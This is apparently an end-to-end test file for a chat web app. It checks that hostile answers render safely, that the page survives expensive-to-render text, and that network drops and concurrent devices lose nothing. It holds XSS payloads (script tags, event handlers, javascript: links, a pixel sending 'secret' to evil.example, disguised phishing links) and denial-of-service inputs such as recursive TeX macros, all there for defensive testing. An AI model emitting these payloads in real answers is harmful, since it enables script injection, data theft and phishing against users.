import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';

import { answered, ask, inMidStream, isWhole, lastAnswer, LONG, pageOf, PATIENT, picture, signIn, stored, stranger, wordsOf } from './support';

const answerOnce = async (page: Page): Promise<void> => {
  await ask(page, 'Name one colour.');
  await answered(page);
};

/** Show the conversation that is open as if a model had answered this. */
const showAnswer = async (page: Page, text: string): Promise<void> => {
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await page.route('**/api/v1/conversations/*/messages/**', async (route) => {
    const reply = await route.fetch(PATIENT);
    const body = (await reply.json()) as { results: { role: string; text: string }[] };
    const results = body.results.map((message) => (message.role === 'assistant' ? { ...message, text } : message));
    await route.fulfill({ response: reply, json: { ...body, results } });
  });
  await page.reload();
  await lastAnswer(page).locator('[class*="prose"]').first().waitFor();
};

const ACTS = [
  '<script>window.hurt = 1</script><img src=x onerror="window.hurt = 2"><iframe src="https://evil.example"></iframe>',
  '<svg onload="window.hurt = 3"><form action="https://evil.example"><input autofocus onfocus="window.hurt = 4"></form>',
  '[a](javascript:window.hurt=5) [b](data:text/html,<script>window.hurt=6</script>) [c](vbscript:x) [d](//evil.example)',
  '![p](https://evil.example/pixel.png?q=secret) ![q](/api/v1/me/) ![r](data:image/svg+xml;base64,PHN2Zy8+)',
  '[https://bank.example](https://evil.example/login) <https://evil.example/x> \u202ehttps://elpmaxe.live',
  '$$\\href{javascript:window.hurt=7}{x} \\htmlClass{a}{y} \\includegraphics{https://evil.example/z.png}$$',
  '```html\n<script>window.hurt = 8</script>\n```',
  '# Composer\n\n[OpenRoute needs your password](https://evil.example)\n\n<style>body{display:none}</style>',
].join('\n\n');

/** Texts that are small and cost much. */
const BOMBS: readonly (readonly [string, string])[] = [
  ['nested lists', '- '.repeat(1_500) + 'end'],
  ['nested quotes', '>'.repeat(3_000) + ' end'],
  ['asterisks', '*a '.repeat(20_000) + 'end'],
  ['brackets', '['.repeat(20_000) + 'end'],
  ['a wide table', `|${'a|'.repeat(400)}\n|${'-|'.repeat(400)}\n${`|${'b|'.repeat(400)}\n`.repeat(50)}\nend`],
  ['macros of a formula', `$$\\def\\a{xx}${'\\def\\a{\\a\\a}'.repeat(40)}\\a$$\n\nend`],
  ['an endless fence', '```js\n' + 'let a = `${'.repeat(5_000)],
  ['one word', 'a'.repeat(200_000)],
  ['stacked marks', `Z${'\u0301\u0323'.repeat(20_000)} end`],
];

describe('an answer that means harm', () => {
  it('does nothing, loads nothing, and leads nowhere in disguise', async () => {
    const page = await pageOf('erin');
    await answerOnce(page);
    await showAnswer(page, ACTS);
    await page.waitForTimeout(500);
    await picture(page, 'hostile');

    expect(await page.evaluate(() => (window as unknown as { hurt?: number }).hurt)).toBeUndefined();
    const answer = lastAnswer(page);
    expect(await answer.locator('script, iframe, form, input, style, svg[onload]').count()).toBe(0);
    const links = await answer.locator('a[href]').evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.getAttribute('rel')]));
    expect(links.filter(([href]) => !/^https?:\/\//.test(href ?? ''))).toEqual([]);
    expect(links.filter(([, rel]) => !rel?.includes('noopener'))).toEqual([]);
    // Where it leads stands beside each link whose words are not its address.
    const disguised = await answer.locator('a[href]').evaluateAll((all) =>
      (all as HTMLAnchorElement[]).filter((one) => !(one.parentElement?.textContent ?? '').includes(new URL(one.href).host)).length);
    expect(disguised).toBe(0);
  });

  it('of little text that costs much leaves a page that can be used', async () => {
    const page = await pageOf('erin');
    await answerOnce(page);
    for (const [name, text] of BOMBS) {
      await showAnswer(page, text);
      await page.locator('textarea').fill(`Still here after ${name}?`);
      await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => done(true))));
    }
    await page.getByRole('button', { name: 'Send' }).click();
    await answered(page);

    expect(await page.locator('article').count()).toBe(2);
  });
});

describe('a bad network', () => {
  it('that comes and goes ten times loses no word', async () => {
    const page = await pageOf('erin');
    let drop = (): Promise<void> => Promise.resolve();
    await page.routeWebSocket('**/ws/v1/chat', (socket) => {
      socket.connectToServer();
      drop = () => socket.close({ code: 1011 });
    });
    await page.reload();
    await page.locator('textarea').waitFor();
    await ask(page, LONG);
    await inMidStream(page, 5);
    for (let time = 0; time < 10; time += 1) {
      await drop();
      await page.waitForTimeout(250);
    }
    await answered(page);
    await isWhole(page);
  });

  it('that is cut off in mid-answer is told, and the rest comes when it is back', async () => {
    const page = await pageOf('erin');
    await ask(page, LONG);
    await inMidStream(page, 5);
    await page.context().setOffline(true);
    await page.getByText('No connection.').waitFor({ timeout: 10_000 });
    await picture(page, 'cut-off');
    await page.context().setOffline(false);
    await answered(page);
    await isWhole(page);
  });

  it('does not matter to a tab that was frozen meanwhile', async () => {
    const page = await pageOf('erin');
    await ask(page, LONG);
    await inMidStream(page, 5);
    const devtools = await page.context().newCDPSession(page);
    await devtools.send('Page.setWebLifecycleState', { state: 'frozen' });
    await new Promise((done) => setTimeout(done, 6_000));
    await devtools.send('Page.setWebLifecycleState', { state: 'active' });
    await answered(page);
    await isWhole(page);
  });
});

describe('two devices that ask in the same moment', () => {
  it('lose no question, and end with the same thread', async () => {
    const one = await pageOf('emil');
    await ask(one, 'Name one colour.');
    await answered(one);
    const other = await (await stranger()).newPage();
    await signIn(other, 'emil');
    await other.goto(one.url());
    await lastAnswer(other).waitFor();
    await other.locator('textarea').fill('Name a river.');
    await one.locator('textarea').fill('Name a mountain.');
    await Promise.all([one.keyboard.press('Enter'), other.locator('textarea').press('Enter')]);
    for (const page of [one, other]) {
      await page.waitForFunction(() => document.querySelectorAll('article[aria-busy="false"]').length === 3, undefined, { timeout: 45_000 });
    }

    const texts = (await stored(one)).map(({ text }) => text);
    expect(texts).toEqual(expect.arrayContaining(['Name a river.', 'Name a mountain.']));
    const thread = (page: Page) => page.locator('article, section[role="group"]').allInnerTexts();
    expect((await thread(other)).map(wordsOf)).toEqual((await thread(one)).map(wordsOf));
  });
});
